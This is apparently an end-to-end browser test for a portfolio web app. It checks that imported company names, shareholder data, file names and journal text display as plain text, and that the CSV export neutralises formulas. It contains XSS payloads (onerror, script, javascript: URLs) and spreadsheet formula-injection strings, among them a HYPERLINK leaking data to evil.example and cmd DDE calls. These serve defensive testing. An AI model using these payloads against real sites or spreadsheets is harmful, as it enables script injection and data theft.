// Output escaping (issue #8): text that arrives from imports (company names, sectors, Morningstar
// ratings, Bell Potter recommendations, shareholder names, file names, a skipped line's text) and
// from the journal form is shown as text on every screen, never parsed as HTML; and the CSV export
// neutralises cells a spreadsheet would run as formulas. The data goes in through the real import
// APIs and the sidebar paste panel, as a user's clipboard or workbook would bring it.
//
// Each payload is HTML a browser() would act on if it were ever inserted as markup. Every injected tag
// carries data-injected, so one query finds any that became an element; inline handlers would also
// be stopped by the CSP (script-src 'self'), so the test looks at the DOM and at CSP violation
// reports rather than only at window.__pwned.
import type { Locator, Page } from "playwright-core";
import { describe, expect, it } from "vitest";
import * as XLSX from "xlsx";
import { chromiumForFile, downloadedBytes, navigateInApp, newPage, shot, signIn, toasts } from "./support/browser";
import { approvedUser, navigateToDashboard, openDashboard, portfolioTable } from "./support/dashboard";

const P = {
  name: `<img src=x data-injected onerror="window.__pwned=1">`,
  sector: `<script data-injected>window.__pwned=2</script>`,
  uncertainty: `<img src=x data-injected onerror=window.__pwned=3>`,
  moat: `<b data-injected>Wide</b>`,
  health: `<svg data-injected onload=window.__pwned=4></svg>`,
  recommendation: `<img src=x data-injected onerror=window.__pwned=5>`,
  holder: `<img src=x data-injected onerror=window.__pwned=6> NOMINEES`,
  holder2: `<script data-injected>window.__pwned=7</script> CUSTODY`,
  fileName: `<img src=x data-injected onerror=window.__pwned=8>.xlsx`,
  skippedCode: `<img src=x data-injected onerror=window.__pwned=9>`,
  thesis: `<iframe data-injected srcdoc="<script>parent.__pwned=10</script>"></iframe> thesis`,
  notes: `<a data-injected href="javascript:window.__pwned=11">notes</a>`,
  tag: `<i data-injected>tag</i>`,
  catalyst: `<img src=x data-injected onerror=window.__pwned=12> catalyst`,
} as const;

/** Company names a spreadsheet would run as formulas, one per trigger character. */
const FORMULA_NAMES: Record<string, string> = {
  PWNB: `=HYPERLINK("http://evil.example/?leak="&A1,"Click")`,
  PWNC: `+SUM(1,2)`,
  PWND: `-2+3+cmd|' /C calc'!A0`,
  PWNE: `@SUM(1+1)*cmd|' /C calc'!A0`,
};

/** The portfolio workbook as a user's spreadsheet would hold it (sheet "Portfolio", one month). */
function hostileWorkbook(): Buffer {
  const rows: (string | number)[][] = [
    ["ASX Code", "Company", "Sector", "Last $", "Mar-25"],
    ["PWNA", P.name, P.sector, 10, 12],
    ...Object.entries(FORMULA_NAMES).map(([symbol, name], i) => [symbol, name, "Formula Sector", 20 + i, 25 + i]),
  ];
  const book = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(rows), "Portfolio");
  return XLSX.write(book, { type: "buffer", bookType: "xlsx" }) as Buffer;
}

/** RFC 4180 parse of the export (quoted cells may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\r" && text[i + 1] === "\n") {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
      i++;
    } else cell += ch;
  }
  row.push(cell);
  rows.push(row);
  return rows;
}

const browser = chromiumForFile();

/** Records CSP violations from the first script on, so a blocked injected handler is still caught. */
async function watchViolations(page: Page) {
  await page.addInitScript(() => {
    const w = window as unknown as { __cspViolations: string[] };
    w.__cspViolations = [];
    document.addEventListener("securitypolicyviolation", (event) => {
      w.__cspViolations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber} ${event.sample}`);
    });
  });
}

/** Nothing of any payload became markup or ran on the current screen. */
async function expectNoInjection(page: Page, screen: string) {
  const found = await page.evaluate(() => {
    const w = window as unknown as { __pwned?: unknown; __cspViolations?: string[] };
    const all = [...document.querySelectorAll("*")];
    return {
      pwned: w.__pwned ?? null,
      injectedElements: document.querySelectorAll("[data-injected]").length,
      // React never writes on* attributes (it delegates events), so any such attribute was injected.
      handlerAttributes: all.flatMap((el) =>
        [...el.attributes].filter((a) => a.name.startsWith("on")).map((a) => `${el.tagName.toLowerCase()}[${a.name}]`),
      ),
      javascriptUrls: all.filter((el) => /^\s*javascript:/i.test(el.getAttribute("href") ?? "")).length,
      cspViolations: w.__cspViolations ?? [],
    };
  });
  expect(found, screen).toEqual({ pwned: null, injectedElements: 0, handlerAttributes: [], javascriptUrls: 0, cspViolations: [] });
}

/** The payload is on the screen as the literal characters the import brought. */
async function expectLiteral(page: Page, text: string, scope = page.locator("body")) {
  await scope.getByText(text, { exact: false }).first().waitFor();
}

/**
 * One screen: once `ready` shows its data has arrived, nothing was injected, and every payload is
 * there as text. Injection is checked first, so a payload that became markup is reported as that
 * rather than as text that never appeared.
 */
async function expectScreen(page: Page, screen: string, ready: Locator, texts: string[], scope = page.locator("body")) {
  await ready.first().waitFor();
  await expectNoInjection(page, screen);
  for (const text of texts) await expectLiteral(page, text, scope);
  await expectNoInjection(page, screen);
}

describe("output escaping", () => {
  it("shows imported and typed HTML as text on every screen, and the CSV export neutralises formulas", async () => {
    const user = await approvedUser();
    const { context, page } = await newPage(browser());
    await watchViolations(page);
    await signIn(page, user);

    // Imports through the real endpoints.
    const upload = await page.request.post("/api/import/excel", {
      multipart: {
        file: {
          name: P.fileName,
          mimeType: "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
          buffer: hostileWorkbook(),
        },
      },
    });
    expect(upload.status(), await upload.text()).toBe(200);
    const morningstar = await page.request.post("/api/import/morningstar", {
      data: {
        text: `Code\tLast\tFair Value\tUncertainty\tEconomic Moat\tFinancial Health\nPWNA\t10\t12\t${P.uncertainty}\t${P.moat}\t${P.health}`,
      },
    });
    expect(morningstar.status(), await morningstar.text()).toBe(200);
    const bellPotter = await page.request.post("/api/import/bell-potter-paste", {
      data: { text: `Security,Target Price,Last Price,Recommendation,Source\nPWNA.ASX,13.00,10.00,${P.recommendation},Bell Potter` },
    });
    expect(bellPotter.status(), await bellPotter.text()).toBe(200);
    const stocks = (await (await page.request.get("/api/stocks")).json()) as { id: string; symbol: string }[];
    const pwna = stocks.find((s) => s.symbol === "PWNA")!.id;
    const holders = await page.request.post(`/api/stocks/${pwna}/shareholders`, {
      data: {
        asOfDate: "2024-06-30",
        text: `Name,Shares,Percentage\n"${P.holder}",1000000,10\n"${P.holder2}",500000,5`,
        fileName: P.fileName.replace(".xlsx", ".csv"),
      },
    });
    expect(holders.status(), await holders.text()).toBe(200);
    const journal = await page.request.post("/api/journal", {
      data: {
        stockId: pwna,
        side: "long",
        openedAt: "2024-01-05",
        entryPrice: 10,
        thesis: P.thesis,
        notes: P.notes,
        tags: [P.tag],
        catalysts: [P.catalyst],
      },
    });
    expect(journal.status(), await journal.text()).toBe(201);
    expect((await page.request.post("/api/portfolio/allocations", { data: { stockId: pwna, amount: 5000 } })).status()).toBe(200);

    // A paste through the sidebar panel whose bad line's text comes back in the notice.
    await openDashboard(page);
    const panel = page.getByRole("complementary", { name: "Sidebar" }).getByRole("group", { name: "Morningstar", exact: true });
    const toggle = panel.getByRole("button", { name: "Morningstar", exact: true });
    await toggle.click();
    await expect.poll(() => toggle.getAttribute("aria-expanded")).toBe("true");
    await panel.getByLabel("Morningstar data").fill(`PWNZ\t10\t12.5\n${P.skippedCode}\t1\t2`);
    await panel.getByRole("button", { name: "Import", exact: true }).click();
    await expectLiteral(page, P.skippedCode, toasts(page));
    await expectNoInjection(page, "import notice");
    await shot(page, "output-escaping-import-notice");

    // Dashboard: both tables, the sector insights and the detail dialog. This and every screen below
    // opens through the app's router in the one document the rows were loaded into, so whatever a
    // payload ran on one screen is still there on the next (docs/decisions/079-ci-time-fewer-loads.md).
    await navigateToDashboard(page);
    const table = portfolioTable(page);
    await expectScreen(
      page,
      "dashboard",
      table.locator('tr[data-symbol="PWNA"]'),
      [P.name, P.uncertainty, P.moat, P.health, FORMULA_NAMES.PWNB],
      table,
    );
    await shot(page, "output-escaping-dashboard");
    // The company cell's tooltip (title) and the row's detail dialog.
    expect(await table.locator('tr[data-symbol="PWNA"] td[data-column="company"] [title]').first().getAttribute("title")).toBe(P.name);
    await table.locator('tr[data-symbol="PWNA"] td[data-column="company"]').click();
    const dialog = page.getByRole("dialog");
    await expectScreen(page, "detail dialog", dialog.getByRole("tab").first(), [P.name], dialog);
    for (const tab of await dialog.getByRole("tab").all()) {
      await tab.click();
      await expectNoInjection(page, `detail dialog tab ${await tab.textContent()}`);
    }
    await dialog.getByRole("tab", { name: "Shareholders" }).click();
    await expectLiteral(page, P.holder, dialog);
    await shot(page, "output-escaping-detail-shareholders");
    await page.keyboard.press("Escape");
    await dialog.waitFor({ state: "detached" });

    // CSV export of the portfolio table: no cell starts with a formula trigger, and the hostile
    // names are kept, prefixed with a quote.
    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export CSV" }).first().click()]);
    const csv = parseCsv((await downloadedBytes(download)).toString("utf8").replace(/^\uFEFF/, ""));
    const header = csv[0];
    const company = header.indexOf("Company");
    const bySymbol = new Map(csv.slice(1).map((row) => [row[header.indexOf("Symbol")], row]));
    for (const [symbol, name] of Object.entries(FORMULA_NAMES)) expect(bySymbol.get(symbol)?.[company], symbol).toBe(`'${name}`);
    expect(bySymbol.get("PWNA")?.[company]).toBe(P.name);
    // A figure is a plain number (a negative one starts with "-"); no other cell starts with a trigger.
    const triggers = csv.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell));
    expect(triggers, "cells a spreadsheet would run").toEqual([]);

    // Data History: each tab, and the import filter that lists file names.
    await navigateInApp(page, "/data-history");
    await page.getByRole("heading", { name: "Data History" }).waitFor();
    const history = page.getByRole("region", { name: "Fair values", exact: true });
    await expectScreen(page, "data history: fair values", history.getByText("PWNA"), [P.uncertainty, P.recommendation], history);
    await page.getByRole("combobox", { name: "Filter by import" }).click();
    await expectLiteral(page, P.fileName, page.getByRole("listbox"));
    await expectNoInjection(page, "data history: import filter");
    await shot(page, "output-escaping-data-history-imports");
    await page.keyboard.press("Escape");
    await page.getByRole("tab", { name: "Shareholders" }).click();
    const holdersHistory = page.getByRole("region", { name: "Shareholders", exact: true });
    await expectScreen(page, "data history: shareholders", holdersHistory.getByText("PWNA"), [P.holder, P.holder2], holdersHistory);
    await page.getByRole("tab", { name: "Journal Entries" }).click();
    const journalHistory = page.getByRole("region", { name: "Journal entries", exact: true });
    await expectScreen(page, "data history: journal", journalHistory.getByText("PWNA"), [P.thesis], journalHistory);

    // Shareholders screen.
    await navigateInApp(page, "/shareholders");
    await page.getByRole("heading", { name: "Shareholder Analysis" }).waitFor();
    await expectScreen(page, "shareholders", page.getByRole("table", { name: "Shareholders of PWNA" }), [P.holder, P.holder2]);

    // Journal screen: thesis, notes, tags and catalysts.
    await navigateInApp(page, "/journal");
    const card = page.getByRole("article").filter({ hasText: "PWNA" });
    await expectScreen(page, "journal", card.getByRole("heading", { name: "PWNA" }), [P.thesis, P.notes, P.tag, P.catalyst], card);
    await shot(page, "output-escaping-journal");

    // Sectors screen: the breakdown, the value analysis and the pie chart with its tooltip.
    await navigateInApp(page, "/sectors");
    await expectScreen(page, "sectors", page.getByText("PWNA"), [P.sector]);
    // The legend is an HTML list under the chart; the tooltip is drawn by recharts when the one slice is hovered.
    await expectLiteral(page, P.sector, page.getByRole("list", { name: "Sector legend" }));
    await page.locator(".recharts-pie-sector").first().hover();
    await expectLiteral(page, P.sector, page.locator(".recharts-tooltip-wrapper"));
    await expectNoInjection(page, "sectors: chart tooltip");
    await shot(page, "output-escaping-sectors");
    await context.close();
  });
});
